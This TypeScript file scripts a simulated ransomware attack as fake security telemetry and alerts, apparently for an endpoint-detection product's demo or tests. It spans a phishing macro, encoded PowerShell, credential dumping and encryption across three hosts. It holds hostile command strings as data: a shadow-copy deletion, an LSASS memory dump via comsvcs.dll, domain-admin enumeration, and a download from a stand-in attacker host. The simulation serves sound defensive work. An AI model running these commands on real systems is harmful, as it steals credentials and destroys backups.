import { connectionData } from '../hive/world/event-data/network.js';
import { processInData } from '../hive/world/processes.js';
import { programAt } from '../hive/world/programs.js';
import type { AlertStep, Script, Setting, Step } from './script.js';

const system32 = 'C:\\Windows\\System32\\';
const powershell = `${system32}WindowsPowerShell\\v1.0\\powershell.exe`;
const document = 'C:\\Users\\Public\\Downloads\\invoice_0815.docm';
const locker = 'C:\\Users\\Public\\Libraries\\locker.exe';
const c2 = '203.0.113.66';
const encoded = ['-NoProfile', '-WindowStyle', 'Hidden', '-enc', 'UwBpAG0AdQBsAGEAdABlAGQAIABkAG8AdwBuAGwAbwBhAGQA'];

function technique(id: string, tactics: number[], relevance: number) {
  return () => ({ version: 1, technique: id, relevance, tactics, customData: { rule: 'Example rule' } });
}

function openedDocument({ at }: Setting) {
  const { sha256, sha1, md5, size } = programAt(document);
  return {
    version: 1,
    path: document.toLowerCase(),
    sha256,
    sha1,
    md5,
    size,
    creationTime: at,
    accessTime: at,
    lastWriteTime: at,
  };
}

function scriptBlock() {
  return {
    version: 1,
    scriptBlockText: "Invoke-WebRequest 'http://c2.evil.example/stage2' # simulated",
    scriptBlockSize: 61,
    scriptBlockId: '00000000-0000-4000-a000-000000000001',
    scriptBlockEntropy: 4.6,
    path: '',
  };
}

function lockedFiles() {
  const names = ['budget.xlsx', 'contracts.docx', 'customers.csv', 'plans.pptx'];
  return { files: names.map((name) => ({ file: `c:\\users\\public\\documents\\${name}.locked` })) };
}

function remoteLogon({ first }: Setting) {
  return {
    etwLogonType: '3',
    etwIpAddress: first.localAddr,
    etwIpPort: '50123',
    etwTargetUserName: 'backup-admin',
    etwTargetDomainName: 'EXAMPLE',
    etwWorkstationName: first.name,
    etwAuthenticationPackageName: 'NTLM',
    etwEventDescription: 'An account was successfully logged on.',
    etwEventId: 4624,
    etwTask: 12_544,
    version: 2,
  };
}

function dumpOf(actor: string) {
  return ({ actors }: Setting) => {
    const process = actors.get(actor);
    return process ? { accessorProcess: processInData(process.acting) } : {};
  };
}

const toC2 = (port: number) => (setting: Setting) => connectionData(setting.endpoint.localAddr, c2, port, true);
const fromFirst = ({ endpoint, first }: Setting) => connectionData(endpoint.localAddr, first.localAddr, 50_124, false);

/** Files are locked on one machine. */
function encryption(at: number, on: Step['on'], parent: string): Step {
  const alert: AlertStep = {
    as: `ransomware on ${on}`,
    triggerCondition: 9,
    triggers: [
      { eventType: 34, actor: `locker on ${on}`, relevance: 99, data: lockedFiles },
      { eventType: 12, actor: `locker on ${on}`, relevance: 70 },
      { eventType: 6, actor: `locker on ${on}`, relevance: 64 },
    ],
  };
  return {
    at,
    on,
    starts: [
      { as: `locker on ${on}`, path: locker, parent, words: ['--all'] },
      {
        as: `shadow on ${on}`,
        path: `${system32}vssadmin.exe`,
        parent: `locker on ${on}`,
        words: ['delete', 'shadows', '/all', '/quiet'],
        signer: 'windows',
      },
    ],
    events: [
      { eventType: 5, actor: `locker on ${on}` },
      { eventType: 6, actor: `locker on ${on}` },
      { eventType: 7, actor: `shadow on ${on}` },
    ],
    alert,
  };
}

const entry: Step[] = [
  {
    at: 1,
    on: 'first',
    starts: [
      {
        as: 'word',
        path: 'C:\\Program Files\\Example Office\\WINWORD.EXE',
        parent: 'OUTLOOK.EXE',
        words: [document],
        signer: 'office',
      },
    ],
    events: [{ eventType: 62, actor: 'word', data: openedDocument }],
    alert: {
      as: 'document',
      triggerCondition: 12,
      title: 'Office document with macros opened from mail',
      triggers: [{ eventType: 65, actor: 'word', relevance: 45, data: technique('T1566.001', [1], 45) }],
    },
  },
  {
    at: 3,
    on: 'server',
    starts: [
      { as: 'admin tool', path: 'C:\\Tools\\inventory.exe', parent: 'services.exe', words: ['--scan'], signer: 'old' },
    ],
    alert: {
      as: 'inventory',
      triggerCondition: 7,
      triggers: [{ eventType: 31, actor: 'admin tool', relevance: 28 }],
    },
  },
  {
    at: 6,
    on: 'first',
    starts: [
      {
        as: 'macro',
        path: `${system32}cmd.exe`,
        parent: 'word',
        words: ['/c', 'powershell -enc'],
        signer: 'windows',
        originalName: 'Cmd.Exe',
      },
    ],
    alert: {
      as: 'macro',
      triggerCondition: 7,
      triggers: [{ eventType: 31, actor: 'macro', relevance: 64 }],
    },
  },
  {
    at: 10,
    on: 'first',
    starts: [
      {
        as: 'script',
        path: powershell,
        parent: 'macro',
        words: encoded,
        signer: 'windows',
        originalName: 'PowerShell.EXE',
      },
    ],
    events: [
      {
        eventType: 38,
        actor: 'script',
        data: () => ({
          queryName: 'c2.evil.example',
          queryResults: `${c2};`,
          queryType: 1,
          queryOptions: 0,
          status: 0,
        }),
      },
      { eventType: 8, actor: 'script', data: toC2(443) },
      { eventType: 89, actor: 'script' },
    ],
    alert: {
      as: 'script',
      triggerCondition: 5,
      triggers: [
        { eventType: 74, actor: 'script', relevance: 78, data: scriptBlock },
        { eventType: 8, actor: 'script', relevance: 52, data: toC2(443) },
      ],
    },
  },
  { at: 13, on: 'first', change: { alert: 'macro', tags: ['phishing'] } },
  {
    at: 15,
    on: 'first',
    starts: [
      {
        as: 'implant',
        path: 'C:\\ProgramData\\Updates\\sync_agent.exe',
        parent: 'script',
        words: ['--quiet'],
        signer: 'forged',
        originalName: 'svchost.exe',
      },
    ],
    events: [
      { eventType: 13, actor: 'script' },
      { eventType: 81, actor: 'implant' },
      { eventType: 9, actor: 'implant' },
    ],
    alert: {
      as: 'persistence',
      triggerCondition: 12,
      title: 'Scheduled task from a user folder',
      triggers: [
        { eventType: 65, actor: 'implant', relevance: 56, data: technique('T1053.005', [2, 3, 4], 56) },
        { eventType: 81, actor: 'implant', relevance: 30 },
      ],
    },
  },
  { at: 18, on: 'server', close: { alert: 'inventory', malicious: false } },
];

const spread: Step[] = [
  {
    at: 20,
    on: 'first',
    starts: [
      {
        as: 'dumper',
        path: `${system32}rundll32.exe`,
        parent: 'implant',
        words: ['comsvcs.dll,', 'MiniDump', '708', 'C:\\Windows\\Temp\\ls.bin', 'full'],
        signer: 'windows',
        system: true,
      },
    ],
    events: [
      { eventType: 24, actor: 'dumper', data: dumpOf('dumper') },
      { eventType: 57, actor: 'dumper' },
    ],
    alert: {
      as: 'credentials',
      triggerCondition: 12,
      title: 'Credentials read from the memory of lsass',
      triggers: [
        { eventType: 24, actor: 'dumper', relevance: 93, data: dumpOf('dumper') },
        { eventType: 65, actor: 'dumper', relevance: 90, data: technique('T1003.001', [6], 90) },
      ],
    },
  },
  {
    at: 25,
    on: 'first',
    alert: { as: 'token', triggerCondition: 8, triggers: [{ eventType: 32, actor: 'implant', relevance: 82 }] },
  },
  { at: 27, on: 'first', close: { alert: 'document', malicious: true } },
  {
    at: 30,
    on: 'second',
    starts: [
      {
        as: 'remote service',
        path: 'C:\\Windows\\remote_helper.exe',
        parent: 'services.exe',
        words: ['-service'],
        system: true,
      },
    ],
    events: [
      { eventType: 39, data: remoteLogon },
      { eventType: 8, actor: 'remote service', data: fromFirst },
      { eventType: 85, actor: 'remote service' },
    ],
    alert: {
      as: 'lateral',
      triggerCondition: 3,
      triggers: [
        { eventType: 23, actor: 'remote service', relevance: 85 },
        { eventType: 8, actor: 'remote service', relevance: 60, data: fromFirst },
      ],
    },
  },
  { at: 32, on: 'first', change: { alert: 'credentials', impact: 97, tags: ['crown-jewels', 'escalated'] } },
  {
    at: 35,
    on: 'second',
    starts: [
      {
        as: 'remote shell',
        path: `${system32}cmd.exe`,
        parent: 'remote service',
        words: ['/c', 'net', 'group', 'Domain Admins', '/domain'],
        signer: 'windows',
      },
    ],
    alert: {
      as: 'discovery',
      triggerCondition: 12,
      title: 'Domain administrators listed',
      triggers: [{ eventType: 65, actor: 'remote shell', relevance: 48, data: technique('T1069.002', [7], 48) }],
    },
  },
  {
    at: 40,
    on: 'server',
    starts: [
      { as: 'server shell', path: powershell, parent: 'services.exe', words: encoded, signer: 'windows', system: true },
    ],
    events: [{ eventType: 39, data: remoteLogon }, { eventType: 56 }],
    alert: {
      as: 'privilege',
      triggerCondition: 10,
      triggers: [{ eventType: 17, actor: 'server shell', relevance: 91 }],
    },
  },
  {
    at: 44,
    on: 'second',
    alert: {
      as: 'logons',
      triggerCondition: 11,
      category: 'etw',
      triggers: [{ eventType: 40, relevance: 38 }],
    },
  },
];

const impact: Step[] = [
  encryption(48, 'first', 'implant'),
  encryption(51, 'second', 'remote shell'),
  encryption(54, 'server', 'server shell'),
  {
    at: 58,
    on: 'second',
    alert: {
      as: 'antimalware',
      triggerCondition: 13,
      triggers: [{ eventType: 76, actor: 'locker on second', relevance: 88 }],
    },
  },
  { at: 60, on: 'second', close: { alert: 'logons' } },
  { at: 62, on: 'first', close: { alert: 'macro', malicious: true } },
  {
    at: 64,
    on: 'first',
    change: { alert: 'ransomware on first', tags: ['incident-response'], notes: 'Machine taken off the network.' },
  },
  { at: 67, on: 'first', close: { alert: 'script', malicious: true } },
  { at: 70, on: 'second', close: { alert: 'antimalware', malicious: true } },
];

/** Mail, macro, PowerShell, credential dump, two more machines, and files locked on all three. */
export const ransomware: Script = { steps: [...entry, ...spread, ...impact], seconds: 75 };
